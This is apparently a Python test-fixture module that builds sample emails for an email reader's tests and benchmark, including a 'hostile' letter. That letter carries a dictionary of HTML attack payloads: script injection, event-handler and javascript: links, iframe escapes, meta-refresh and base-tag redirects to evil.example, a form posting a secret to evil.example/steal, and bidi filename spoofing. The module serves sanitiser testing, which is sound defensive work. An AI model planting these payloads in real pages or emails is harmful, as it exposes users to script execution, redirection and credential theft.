"""Letters for the reader's tests and benchmark: a reply with a quote, a long one, a newsletter,
and hostile HTML (each payload tries to run script, leave the frame or navigate)."""

from __future__ import annotations

from datetime import UTC, datetime
from email.headerregistry import Address
from email.message import EmailMessage
from email.utils import format_datetime

QUOTED_SECRET = "OLD-QUOTED-WORDS"
# Each payload, if it ran, would set one of these or change the top page: the browser test
# checks that none did.
HOSTILE_PAYLOADS = {
    "script": "<script>localStorage.setItem('pwned','script');top.document.title='PWNED'</script>",
    "onerror": (
        "<img src=x onerror=\"localStorage.setItem('pwned','onerror');"
        "top.location='https://evil.example/'\">"
    ),
    "svg": "<svg onload=\"localStorage.setItem('pwned','svg')\"><circle r=5 /></svg>",
    "javascript_link": (
        "<a id=js href=\"javascript:localStorage.setItem('pwned','js');"
        "top.document.title='PWNED'\">click me</a>"
    ),
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "overlay": (
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;'
        'background:red">OVERLAY</div>'
    ),
    "form": (
        '<form action="https://evil.example/steal" method=post>'
        "<input name=p value=secret><button>Go</button></form>"
    ),
    "iframe": (
        "<iframe src=\"javascript:parent.top.document.title='PWNED'\"></iframe>"
        "<iframe srcdoc=\"<script>top.document.title='PWNED'</script>\"></iframe>"
    ),
    "object": (
        "<object data=\"javascript:top.document.title='PWNED'\"></object>"
        '<embed src="https://evil.example/x.swf">'
    ),
    "style_block": "<style>body{display:none} *{position:fixed !important}</style>",
    "bidi": (
        '<p>Invoice \u202egnp.exe\u202c and <a href="https://evil.example/">\u202eelgoog.com</a></p>'
    ),
    "data_link": "<a href=\"data:text/html,<script>top.document.title='PWNED'</script>\">data</a>",
}


def _base(subject: str, sender: tuple[str, str], to: str) -> EmailMessage:
    msg = EmailMessage()
    msg["Subject"] = subject
    msg["From"] = Address(sender[0], addr_spec=sender[1])
    msg["To"] = to
    msg["Cc"] = "Boss <boss@corp.example>"
    msg["Date"] = format_datetime(datetime(2026, 11, 25, 9, 30, tzinfo=UTC))
    return msg


def reply_with_quote(subject: str, to: str) -> bytes:
    msg = _base(subject, ("Anna Petrova", "anna@corp.example"), to)
    msg.set_content(
        "Hi Bob,\n\nThe report is at https://example.com/r?a=1&b=2 and the notes are in "
        "the shared folder. Can you check it by Friday?\n\nThanks,\nAnna\n\n"
        "On Mon, 23 Nov 2026 at 10:00, Bob <bob@corp.example> wrote:\n"
        f"> Where is the report? {QUOTED_SECRET}\n> Bob\n"
    )
    return msg.as_bytes()


def long_letter(subject: str, to: str, paragraphs: int = 40) -> bytes:
    msg = _base(subject, ("Anna Petrova", "anna@corp.example"), to)
    body = "\n\n".join(
        f"Paragraph {i}: " + "lorem ipsum dolor sit amet " * 40 for i in range(paragraphs)
    )
    msg.set_content(body)
    return msg.as_bytes()


def newsletter(subject: str, to: str) -> bytes:
    msg = _base(subject, ("Daily Digest", "news@digest.example"), to)
    msg["List-Unsubscribe"] = "<https://digest.example/unsub>"
    msg.set_content("This week: three stories. View in a browser.")
    stories = "".join(
        f'<tr><td style="padding:12px 20px;border-bottom:1px solid #e5e5e5">'
        f'<h2 style="margin:0 0 6px;font:600 18px Georgia,serif;color:#1a1a2e">Story {i}: '
        f"{title}</h2>"
        f'<p style="margin:0;color:#444;font-size:15px;line-height:1.5">{text} '
        f'<a href="https://digest.example/story/{i}" style="color:#0b6bcb">Read more →</a></p>'
        f"</td></tr>"
        for i, (title, text) in enumerate(
            [
                ("Trains get faster", "A new line cuts the trip between two capitals to 3 hours."),
                ("Coffee prices", "Beans are up 12% this quarter; roasters explain why."),
                ("A quiet week in tech", "Nothing exploded, and that is the news."),
            ],
            start=1,
        )
    )
    html = (
        '<html><body style="margin:0;background:#f4f4f7">'
        '<table width="100%" cellpadding="0" cellspacing="0" style="background:#f4f4f7"><tr><td>'
        '<table width="600" align="center" cellpadding="0" cellspacing="0" '
        'style="background:#ffffff;border-radius:8px;margin:16px auto">'
        '<tr><td style="background:#1a1a2e;color:#ffffff;padding:18px 20px;'
        'font:700 22px Helvetica,Arial,sans-serif">The Daily Digest</td></tr>'
        '<tr><td style="padding:8px 20px"><img src="cid:logo@digest" width="120" height="30" '
        'alt="logo"> <img src="https://images.digest.example/hero.jpg" width="560" alt="hero">'
        "</td></tr>"
        f"{stories}"
        '<tr><td style="padding:14px 20px;color:#888;font-size:12px">You received this because '
        'you subscribed. <a href="https://digest.example/unsub">Unsubscribe</a>'
        '<img src="https://t.sendgrid.net/wf/open?u=1" width="1" height="1" alt=""></td></tr>'
        "</table></td></tr></table></body></html>"
    )
    msg.add_alternative(html, subtype="html")
    html_part = msg.get_payload()[1]
    html_part.add_related(_png(120, 30), maintype="image", subtype="png", cid="<logo@digest>")
    return msg.as_bytes()


def _png(width: int, height: int) -> bytes:
    """A small PNG logo: an orange bar with a darker stripe."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(
        b"\x00"
        + b"".join(
            bytes((230, 120, 20)) if 8 <= y < 22 and x < width - 10 else bytes((250, 190, 90))
            for x in range(width)
        )
        for y in range(height)
    )
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def hostile(subject: str, to: str) -> bytes:
    msg = _base(subject, ("Mallory", "mallory@evil.example"), to)
    msg.set_content("Hostile letter.")
    body = "".join(
        f"<div class=payload id={name}>{html}</div>" for name, html in HOSTILE_PAYLOADS.items()
    )
    msg.add_alternative(
        f"<html><head>{HOSTILE_PAYLOADS['meta_refresh']}{HOSTILE_PAYLOADS['base']}</head>"
        f"<body><h1>Hostile</h1>{body}</body></html>",
        subtype="html",
    )
    return msg.as_bytes()
